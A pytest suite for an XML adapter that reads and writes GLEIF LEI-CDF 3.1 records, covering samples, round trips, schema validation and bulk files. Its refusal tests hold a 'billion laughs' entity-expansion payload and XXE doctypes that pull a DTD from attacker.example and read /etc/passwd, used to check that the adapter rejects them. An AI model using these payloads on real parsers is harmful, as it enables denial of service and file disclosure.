"""The GLEIF LEI-CDF 3.1 adapter (adapters/gleif_lei): samples, round trip, refusals, bulk."""

from __future__ import annotations

import io
from datetime import date
from pathlib import Path
from typing import Any
from xml.etree import ElementTree

import pytest
import xmlschema
from google.protobuf import json_format
from hypothesis import given, settings
from hypothesis import strategies as st
from stdnum import lei
from stdnum.iso7064 import mod_97_10

from adapters.gleif_lei import adapter
from gateway.mapping import AdapterError
from gateway.profiles import CreditProfile, validate_profile
from gateway.schema.cxg.v1 import profile_pb2

SAMPLES = Path(__file__).resolve().parent.parent / "adapters" / "gleif_lei" / "samples"
XSD = SAMPLES.parent / "2021-03-04_lei-cdf-v3-1.xsd"  # the published LEI-CDF 3.1 schema
XSD_SCHEMA = xmlschema.XMLSchema(str(XSD), base_url=str(XSD.parent), allow="sandbox")
NS = "http://www.gleif.org/data/schema/leidata/2016"
LEI_NS = {"lei": NS}
ROOT = "/lei:LEIRecord"
RU_SAMPLE = (SAMPLES / "ru_romashka.xml").read_text(encoding="utf-8")


def _in_lei_data(record: bytes) -> bytes:
    """One written LEIRecord as a whole LEI-CDF file (LEIRecord is no global element of the
    schema: only a file validates on its own)."""
    body = record.split(b"?>", 1)[1].replace(f' xmlns:lei="{NS}"'.encode(), b"", 1)
    return (
        (
            f'<?xml version="1.0" encoding="UTF-8"?><lei:LEIData xmlns:lei="{NS}"><lei:LEIHeader>'
            "<lei:ContentDate>2026-01-01T00:00:00Z</lei:ContentDate>"
            "<lei:FileContent>QUERY_RESPONSE</lei:FileContent><lei:RecordCount>1</lei:RecordCount>"
            "</lei:LEIHeader><lei:LEIRecords>"
        ).encode()
        + body
        + b"</lei:LEIRecords></lei:LEIData>"
    )


def _subject(profile: CreditProfile) -> dict[str, Any]:
    return json_format.MessageToDict(profile)["subject"]  # type: ignore[no-any-return]


def _refusal(data: bytes) -> AdapterError:
    with pytest.raises(AdapterError) as caught:
        adapter.decode(data)
    return caught.value


def _ru(old: str, new: str) -> bytes:
    """The Russian sample with one piece of text replaced (which must be there)."""
    assert old in RU_SAMPLE
    return RU_SAMPLE.replace(old, new, 1).encode()


# 1. samples --------------------------------------------------------------------------------


EXPECTED = {
    "cn_qingdao_hailian.xml": {
        "ids": [{"scheme": "LEI", "value": "300300CNQD7H3L9FTP12"}],
        "legalName": {"zh": "青岛海联国际贸易有限公司"},
        "country": "CN",
        "address": {
            "country": "CN",
            "region": "CN-SD",
            "locality": "青岛市",
            "street": "崂山区香港东路195号",
            "postalCode": "266061",
        },
        "legalForm": "ECAK",
        "status": "ENTITY_STATUS_ACTIVE",
        "registrationDate": "2009-07-15",
    },
    "ru_romashka.xml": {
        "ids": [{"scheme": "LEI", "value": "253400RUB9T2KXQM4Z70"}],
        "legalName": {"ru": 'ОБЩЕСТВО С ОГРАНИЧЕННОЙ ОТВЕТСТВЕННОСТЬЮ "РОМАШКА"'},
        "country": "RU",
        "address": {
            "country": "RU",
            "region": "RU-MOW",
            "locality": "Москва",
            "street": "ул. Тверская, д. 7",
            "postalCode": "125009",
        },
        "legalForm": "17R7",
        "status": "ENTITY_STATUS_ACTIVE",
        "registrationDate": "2004-03-12",
    },
    "kz_dala_agro.xml": {
        "ids": [{"scheme": "LEI", "value": "549300KZAL7T3VRQ2N08"}],
        "legalName": {
            "local": '"Дала Агро Экспорт" жауапкершілігі шектеулі серіктестігі',
            "localLang": "kk",
            # an OtherEntityName of type ALTERNATIVE_LANGUAGE_LEGAL_NAME
            "ru": 'Товарищество с ограниченной ответственностью "Дала Агро Экспорт"',
        },
        "country": "KZ",
        "address": {
            "country": "KZ",
            "region": "KZ-75",
            "locality": "Алматы",
            "street": "пр. Абая, д. 52, офис 14",
            "postalCode": "A15E3F4",
        },
        "legalForm": "ТОО",  # 8888 with OtherLegalForm ТОО
        "status": "ENTITY_STATUS_INACTIVE",
        "registrationDate": "2015-11-02",
    },
}


# The LEI's Registration, carried as a rating of scheme LEI_REGISTRATION (README: "Registration")
REGISTRATIONS = {
    "cn_qingdao_hailian.xml": {
        "scheme": "LEI_REGISTRATION",
        "grade": "ISSUED",
        "asOfDate": "2026-05-20",
        "issuer": "300300GLOUCN00000009",
        "validFromDate": "2018-05-21",
        "validUntilDate": "2027-05-21",
    },
    "ru_romashka.xml": {
        "scheme": "LEI_REGISTRATION",
        "grade": "ISSUED",
        "asOfDate": "2026-09-30",
        "issuer": "253400LOURU000000077",
        "validFromDate": "2014-10-02",
        "validUntilDate": "2027-10-02",
    },
    "kz_dala_agro.xml": {
        "scheme": "LEI_REGISTRATION",
        "grade": "LAPSED",
        "asOfDate": "2025-03-01",
        "issuer": "549300LOUKZ000000062",
        "validFromDate": "2017-02-14",
        "validUntilDate": "2025-02-14",
    },
}


def test_every_sample_is_covered() -> None:
    assert sorted(p.name for p in SAMPLES.glob("*.xml") if p.name != "bulk.xml") == sorted(EXPECTED)


@pytest.mark.parametrize("name", sorted(EXPECTED))
def test_sample_decodes_to_the_expected_profile_and_round_trips(name: str) -> None:
    profile = adapter.decode((SAMPLES / name).read_bytes())
    assert _subject(profile) == EXPECTED[name]
    document = json_format.MessageToDict(profile)
    assert set(document) == {"subject", "ratings"}  # nothing else is invented
    assert document["ratings"] == [REGISTRATIONS[name]]
    encoded = adapter.encode(profile)
    assert adapter.decode(encoded) == profile


def test_sample_values_that_need_the_hooks() -> None:
    # the creation date is the calendar date as written, not shifted to UTC (+08:00 midnight
    # is the previous day in UTC)
    cn = adapter.decode((SAMPLES / "cn_qingdao_hailian.xml").read_bytes())
    assert cn.subject.registration_date == "2009-07-15"
    # fractional seconds are accepted
    kz = adapter.decode((SAMPLES / "kz_dala_agro.xml").read_bytes())
    assert kz.subject.registration_date == "2015-11-02"


def test_encoded_record_is_lei_cdf_shaped() -> None:
    profile = adapter.decode((SAMPLES / "ru_romashka.xml").read_bytes())
    root = ElementTree.fromstring(adapter.encode(profile))
    assert root.tag == f"{{{NS}}}LEIRecord"
    assert root.findtext("lei:LEI", namespaces=LEI_NS) == "253400RUB9T2KXQM4Z70"
    entity = root.find("lei:Entity", LEI_NS)
    assert entity is not None
    # element order follows the LEI-CDF 3.1 EntityType sequence
    assert [child.tag.split("}")[1] for child in entity] == [
        "LegalName",
        "LegalAddress",
        "HeadquartersAddress",
        "LegalJurisdiction",
        "LegalForm",
        "EntityStatus",
        "EntityCreationDate",
    ]
    name = entity.find("lei:LegalName", LEI_NS)
    assert name is not None
    assert name.get("{http://www.w3.org/XML/1998/namespace}lang") == "ru"
    assert entity.findtext("lei:LegalJurisdiction", namespaces=LEI_NS) == "RU"
    assert entity.findtext("lei:EntityCreationDate", namespaces=LEI_NS) == "2004-03-12T00:00:00Z"


def test_jurisdiction_keeps_the_country_part_of_a_subdivision() -> None:
    profile = adapter.decode(_ru("<lei:LegalJurisdiction>RU<", "<lei:LegalJurisdiction>RU-MOW<"))
    assert profile.subject.country == "RU"


def test_missing_jurisdiction_falls_back_to_the_legal_address_country() -> None:
    profile = adapter.decode(_ru("<lei:LegalJurisdiction>RU</lei:LegalJurisdiction>", ""))
    assert profile.subject.country == "RU"


def test_unspecified_status_goes_out_as_null_and_comes_back() -> None:
    profile = adapter.decode(_ru("<lei:EntityStatus>ACTIVE<", "<lei:EntityStatus>NULL<"))
    assert profile.subject.status == 0
    encoded = adapter.encode(profile)
    assert b"<lei:EntityStatus>NULL</lei:EntityStatus>" in encoded
    assert adapter.decode(encoded) == profile


# 2. round trip property --------------------------------------------------------------------

_ALNUM = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZ"
COUNTRIES = ["CN", "RU", "KZ", "KG", "TJ", "UZ", "IN", "PK", "IR", "BY", "US", "DE"]
LOCAL_LANGS = ["kk", "ky", "tg", "uz-Latn", "hi", "fa", "be"]  # names that stay in `local`
LIVE = ["ISSUED", "LAPSED", "PENDING_TRANSFER", "PENDING_ARCHIVAL", "TRANSFERRED"]


def _lei(base: str) -> str:
    return base + mod_97_10.calc_check_digits(base)


# LEI-CDF Tokenized500Type: no tab or line break, no space at either end or twice in a row
_text = (
    st.text(
        alphabet=st.characters(blacklist_categories=("Cc", "Cs", "Cn")),
        min_size=1,
        max_size=40,
    )
    .map(lambda text: " ".join(text.split()))
    .filter(bool)
)
_leis = st.text(alphabet=_ALNUM, min_size=18, max_size=18).map(_lei)
_dates = st.dates(min_value=date(1, 1, 1), max_value=date(9999, 12, 31)).map(date.isoformat)


@st.composite
def profiles(draw: st.DrawFn) -> CreditProfile:
    """Canonical profiles within what LEI-CDF carries: the names, legal address, jurisdiction
    (a country), legal form, status, creation date and the LEI's registration."""
    names: dict[str, str] = {}
    if draw(st.booleans()):
        names["local"] = draw(_text)
        lang = draw(st.none() | st.sampled_from(LOCAL_LANGS))
        if lang:
            names["localLang"] = lang
    for lang in ("zh", "ru", "en"):
        if draw(st.booleans()) or (lang == "en" and not names):
            names[lang] = draw(_text)
    subject: dict[str, Any] = {
        "ids": [{"scheme": "LEI", "value": draw(_leis)}],
        "legalName": names,
        "country": draw(st.sampled_from(COUNTRIES)),
        "address": {
            "country": draw(st.sampled_from(COUNTRIES)),
            "locality": draw(_text),
            "street": draw(_text),
        },
    }
    region = draw(st.none() | st.from_regex(r"[A-Z]{2}-[A-Z0-9]{1,3}", fullmatch=True))
    if region:
        subject["address"]["region"] = region
    postal_code = draw(st.none() | _text)
    if postal_code:
        subject["address"]["postalCode"] = postal_code
    # an ELF code, or a form with none (written 8888 + OtherLegalForm)
    form = draw(st.none() | st.from_regex(r"[A-Z0-9]{4}", fullmatch=True) | _text)
    if form:
        subject["legalForm"] = form
    registration = draw(st.sampled_from([*LIVE, "RETIRED", "MERGED"]))
    if registration in ("RETIRED", "MERGED"):  # the entity is gone
        subject["status"] = "ENTITY_STATUS_DISSOLVED"
    else:
        status = draw(st.sampled_from([None, "ENTITY_STATUS_ACTIVE", "ENTITY_STATUS_INACTIVE"]))
        if status:
            subject["status"] = status
    created = draw(st.none() | _dates)
    if created:
        subject["registrationDate"] = created
    rating = {
        "scheme": "LEI_REGISTRATION",
        "grade": registration,
        "asOfDate": draw(_dates),
        "issuer": draw(_leis),
        "validFromDate": draw(_dates),
        "validUntilDate": draw(_dates),
    }
    profile = json_format.ParseDict({"subject": subject, "ratings": [rating]}, CreditProfile())
    validate_profile(profile)  # the generator makes only valid profiles
    return profile


@settings(max_examples=75, deadline=None)
@given(profiles())
def test_decode_encode_round_trip(profile: CreditProfile) -> None:
    assert adapter.decode(adapter.encode(profile)) == profile


@settings(max_examples=50, deadline=None)
@given(profiles())
def test_every_encoded_record_is_valid_against_the_lei_cdf_xsd(profile: CreditProfile) -> None:
    """Checked by xmlschema against the published schema file itself, not the adapter's copy
    of its record declaration."""
    assert XSD_SCHEMA.is_valid(io.BytesIO(_in_lei_data(adapter.encode(profile))))


def test_generated_lei_is_valid() -> None:
    assert lei.is_valid(_lei("5493001KJTIIGC8Y1R"))


# 3. refusals -------------------------------------------------------------------------------


def test_malformed_xml() -> None:
    error = _refusal(_ru("</lei:Entity>", ""))
    assert error.rule == "xml"
    assert error.field is not None and error.field.startswith("line ")
    assert int(error.field.split()[1]) > 1


def test_oversize_record() -> None:
    big = "Я" * (600 * 1024)  # two bytes each in UTF-8: over 1 MiB in all
    error = _refusal(_ru("ул. Тверская, д. 7", big))
    assert error.rule == "size"
    assert error.field == ""


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
"""


def test_billion_laughs() -> None:
    record = RU_SAMPLE.split("?>", 1)[1].replace("РОМАШКА", "&lol9;")
    error = _refusal(BILLION_LAUGHS + record.encode())
    assert error.rule == "xml"
    assert error.field == "/"
    assert "DTD" in str(error)


@pytest.mark.parametrize(
    "doctype",
    [
        '<!DOCTYPE x SYSTEM "http://attacker.example/lei.dtd">',
        '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_external_entity(doctype: str) -> None:
    record = RU_SAMPLE.split("?>", 1)[1]
    if "xxe" in doctype:
        record = record.replace("РОМАШКА", "&xxe;")
    error = _refusal(f'<?xml version="1.0" encoding="UTF-8"?>\n{doctype}{record}'.encode())
    assert error.rule == "xml"
    assert error.field == "/"


def test_wrong_root_element() -> None:
    error = _refusal((SAMPLES / "bulk.xml").read_bytes())
    assert error.rule == "xml"
    assert error.field == f"/{{{NS}}}LEIData"


def test_record_in_another_namespace() -> None:
    error = _refusal(_ru(NS, "http://www.leiroc.org/data/schema/leidata/2014"))
    assert error.rule == "xml"
    assert error.field == "/{http://www.leiroc.org/data/schema/leidata/2014}LEIRecord"


def test_unknown_entity_status_code() -> None:
    error = _refusal(_ru("<lei:EntityStatus>ACTIVE<", "<lei:EntityStatus>DORMANT<"))
    assert error.rule == "code"
    assert error.field == f"{ROOT}/lei:Entity/lei:EntityStatus"
    assert error.canonical == "subject.status"


def test_invalid_lei_check_digits() -> None:
    error = _refusal(_ru("253400RUB9T2KXQM4Z70", "253400RUB9T2KXQM4Z71"))
    assert error.rule == "check_digit"
    assert error.field == f"{ROOT}/lei:LEI"
    assert error.canonical == "/subject/ids/0/value"


def test_missing_lei() -> None:
    error = _refusal(_ru("<lei:LEI>253400RUB9T2KXQM4Z70</lei:LEI>", ""))
    assert error.rule == "required"
    assert error.field == f"{ROOT}/lei:LEI"


def test_empty_lei() -> None:
    error = _refusal(_ru("253400RUB9T2KXQM4Z70", "  "))
    assert error.rule == "required"
    assert error.field == f"{ROOT}/lei:LEI"


def test_missing_legal_name() -> None:
    error = _refusal(
        _ru('"РОМАШКА"</lei:LegalName>', "</lei:LegalName>").replace(
            "ОБЩЕСТВО С ОГРАНИЧЕННОЙ ОТВЕТСТВЕННОСТЬЮ ".encode(), b"", 1
        )
    )
    assert error.rule == "required"
    assert error.field == f"{ROOT}/lei:Entity/lei:LegalName"


def test_element_with_children_where_text_is_expected() -> None:
    error = _refusal(
        _ru(
            'ОБЩЕСТВО С ОГРАНИЧЕННОЙ ОТВЕТСТВЕННОСТЬЮ "РОМАШКА"',
            "<lei:Part>ООО</lei:Part><lei:Part>РОМАШКА</lei:Part>",
        )
    )
    assert error.rule == "type"
    assert error.field == f"{ROOT}/lei:Entity/lei:LegalName"


def test_creation_date_not_in_the_lei_date_time_profile() -> None:
    for bad in ("12.03.2004", "2004-03-12", "2004-02-30T00:00:00Z", "2004-03-12T00:00:00"):
        error = _refusal(_ru("2004-03-12T00:00:00+03:00", bad))
        assert error.rule == "date", bad
        assert error.field == f"{ROOT}/lei:Entity/lei:EntityCreationDate"


def test_jurisdiction_that_is_no_code() -> None:
    error = _refusal(_ru("<lei:LegalJurisdiction>RU<", "<lei:LegalJurisdiction>Russia<"))
    assert error.rule == "jurisdiction"
    assert error.field == f"{ROOT}/lei:Entity/lei:LegalJurisdiction"


def test_jurisdiction_that_is_no_country() -> None:
    error = _refusal(_ru("<lei:LegalJurisdiction>RU<", "<lei:LegalJurisdiction>XX-ABC<"))
    assert error.field == f"{ROOT}/lei:Entity/lei:LegalJurisdiction"
    assert error.canonical == "/subject/country"


def test_no_country_at_all() -> None:
    data = _ru("<lei:LegalJurisdiction>RU</lei:LegalJurisdiction>", "").replace(
        b"<lei:Country>RU</lei:Country>", b"", 1
    )
    error = _refusal(data)
    assert error.rule == "required"
    assert error.field == f"{ROOT}/lei:Entity/lei:LegalJurisdiction"


def test_bad_legal_address_country() -> None:
    error = _refusal(_ru("<lei:Country>RU<", "<lei:Country>ZZ<"))
    assert error.field == f"{ROOT}/lei:Entity/lei:LegalAddress/lei:Country"


def test_status_the_format_cannot_carry_is_refused_outbound() -> None:
    profile = adapter.decode((SAMPLES / "ru_romashka.xml").read_bytes())
    # LEI-CDF has ACTIVE, INACTIVE and NULL only (a dissolved entity goes out INACTIVE)
    profile.subject.status = profile_pb2.ENTITY_STATUS_LIQUIDATING
    with pytest.raises(AdapterError) as caught:
        adapter.encode(profile)
    assert caught.value.rule == "code"
    assert caught.value.field == "lei:Entity/lei:EntityStatus"


def test_profile_without_lei_is_refused_outbound() -> None:
    profile = adapter.decode((SAMPLES / "ru_romashka.xml").read_bytes())
    profile.subject.ids[0].scheme = "RU_OGRN"
    profile.subject.ids[0].value = "1027700132195"
    with pytest.raises(AdapterError) as caught:
        adapter.encode(profile)
    assert caught.value.rule == "required"
    assert caught.value.field == "lei:LEI"


# 4. bulk -----------------------------------------------------------------------------------


def test_bulk_file() -> None:
    with open(SAMPLES / "bulk.xml", "rb") as stream:
        records = list(adapter.read(stream))
    assert [r.number for r in records] == [1, 2, 3, 4]
    assert [r.location for r in records] == [f"{ROOT}[{n}]" for n in (1, 2, 3, 4)]
    good = [r for r in records if r.number != 3]
    assert all(r.profile is not None and r.error is None for r in good)
    bad = records[2]
    assert bad.profile is None and bad.error is not None
    assert bad.error.field == f"{ROOT}[3]/lei:LEI"
    assert bad.error.rule == "check_digit"

    first, second, _, fourth = (r.profile for r in records)
    assert first is not None and second is not None and fourth is not None
    assert first.subject.ids[0].value == "300300QD6RXH4N8P2J28"
    assert first.subject.legal_name.zh == "青岛上合示范区供应链管理有限公司"
    assert first.subject.registration_date == "2020-09-01"
    assert second.subject.country == "US"  # LegalJurisdiction US-DE
    assert second.subject.address.region == "US-DE"
    assert second.subject.legal_form == "HZEH"
    assert fourth.subject.country == "UZ"  # no LegalJurisdiction: the legal address country
    assert fourth.subject.legal_name.local_lang == "uz-Latn"
    assert fourth.subject.legal_form == "MChJ"  # 8888 + OtherLegalForm
    assert fourth.ratings[0].grade == "PENDING_TRANSFER"
    assert fourth.subject.status == 0  # NULL
    assert fourth.subject.registration_date == ""


def test_bulk_file_with_billion_laughs_is_refused_whole() -> None:
    """Refused before its first record: a file with no record is an error, not 0 records."""
    body = (SAMPLES / "bulk.xml").read_bytes().split(b"?>", 1)[1]
    with pytest.raises(AdapterError) as caught:
        list(adapter.read(io.BytesIO(BILLION_LAUGHS + body.replace(b"LLC", b"&lol9;"))))
    assert caught.value.rule == "xml"
    assert "DTD" in str(caught.value)


def test_bulk_file_cut_short_reports_the_good_records_then_the_break() -> None:
    data = (SAMPLES / "bulk.xml").read_bytes()
    cut = data[: data.index(b"<lei:LEI>25340019VNMW5K7TLR79")]
    records = list(adapter.read(io.BytesIO(cut)))
    assert [r.profile is not None for r in records] == [True, True, False]
    last = records[-1]
    assert last.error is not None and last.error.rule == "xml"
    assert last.error.field is not None and last.error.field.startswith("line ")


# 5. what a lender needs (issue 14) ---------------------------------------------------------


@pytest.mark.parametrize(
    ("lang", "slot"),
    [("en", "en"), ("en-GB", "en"), ("ru", "ru"), ("zh-Hans", "zh"), ("zh-Hant", None), ("kk", None)],
)  # fmt: skip
def test_the_legal_name_goes_to_the_language_its_xml_lang_names(
    lang: str, slot: str | None
) -> None:
    profile = adapter.decode(_ru('xml:lang="ru">ОБЩЕСТВО', f'xml:lang="{lang}">ОБЩЕСТВО'))
    names = json_format.MessageToDict(profile.subject.legal_name)
    name = 'ОБЩЕСТВО С ОГРАНИЧЕННОЙ ОТВЕТСТВЕННОСТЬЮ "РОМАШКА"'
    assert names == ({slot: name} if slot else {"local": name, "localLang": lang})


@pytest.mark.parametrize("status", ["ANNULLED", "DUPLICATE", "CANCELLED", "PENDING_VALIDATION"])
def test_an_lei_its_lou_withdrew_or_never_issued_is_refused(status: str) -> None:
    error = _refusal(_ru("<lei:RegistrationStatus>ISSUED<", f"<lei:RegistrationStatus>{status}<"))
    assert error.rule == "registration_status"
    assert error.field == f"{ROOT}/lei:Registration/lei:RegistrationStatus"


@pytest.mark.parametrize("status", ["RETIRED", "MERGED"])
def test_a_retired_or_merged_lei_makes_the_entity_dissolved(status: str) -> None:
    profile = adapter.decode(
        _ru("<lei:RegistrationStatus>ISSUED<", f"<lei:RegistrationStatus>{status}<")
    )
    assert profile.subject.status == profile_pb2.ENTITY_STATUS_DISSOLVED
    assert profile.ratings[0].grade == status
    written = adapter.encode(profile)
    assert b"<lei:EntityStatus>INACTIVE</lei:EntityStatus>" in written
    assert adapter.decode(written) == profile


@pytest.mark.parametrize("status", ["ISSUED", "LAPSED", "PENDING_TRANSFER", "TRANSFERRED"])
def test_a_live_registration_is_carried_as_written(status: str) -> None:
    profile = adapter.decode(
        _ru("<lei:RegistrationStatus>ISSUED<", f"<lei:RegistrationStatus>{status}<")
    )
    assert (profile.subject.status, profile.ratings[0].grade) == (
        profile_pb2.ENTITY_STATUS_ACTIVE,
        status,
    )


def test_a_form_with_no_elf_code_goes_out_as_8888_with_other_legal_form() -> None:
    profile = adapter.decode((SAMPLES / "kz_dala_agro.xml").read_bytes())
    assert profile.subject.legal_form == "ТОО"
    written = ElementTree.fromstring(adapter.encode(profile))
    form = written.find("lei:Entity/lei:LegalForm", LEI_NS)
    assert form is not None
    assert [(child.tag.split("}")[1], child.text) for child in form] == [
        ("EntityLegalFormCode", "8888"),
        ("OtherLegalForm", "ТОО"),
    ]


def test_a_profile_without_the_lei_registration_is_refused_going_out() -> None:
    """LEI-CDF requires the Registration, which only a record read in this format carries."""
    profile = adapter.decode((SAMPLES / "ru_romashka.xml").read_bytes())
    del profile.ratings[:]
    with pytest.raises(AdapterError) as caught:
        adapter.encode(profile)
    assert caught.value.rule == "required"
    assert caught.value.field == "lei:Registration/lei:InitialRegistrationDate"


@pytest.mark.parametrize("name", sorted(p.name for p in SAMPLES.glob("*.xml")))
def test_samples_and_what_they_encode_to_are_valid_against_the_lei_cdf_xsd(name: str) -> None:
    data = (SAMPLES / name).read_bytes()
    if name == "bulk.xml":
        assert XSD_SCHEMA.is_valid(io.BytesIO(data))
        return
    assert XSD_SCHEMA.is_valid(io.BytesIO(_in_lei_data(data)))
    assert XSD_SCHEMA.is_valid(io.BytesIO(_in_lei_data(adapter.encode(adapter.decode(data)))))


def test_the_header_and_the_records_extension_are_skipped() -> None:
    data = (
        (SAMPLES / "bulk.xml")
        .read_bytes()
        .replace(
            b"</lei:LEIRecords>",
            b'<lei:Extension><x:Note xmlns:x="urn:x">any</x:Note></lei:Extension></lei:LEIRecords>',
        )
    )
    assert XSD_SCHEMA.is_valid(io.BytesIO(data))
    assert [r.number for r in adapter.read(io.BytesIO(data))] == [1, 2, 3, 4]
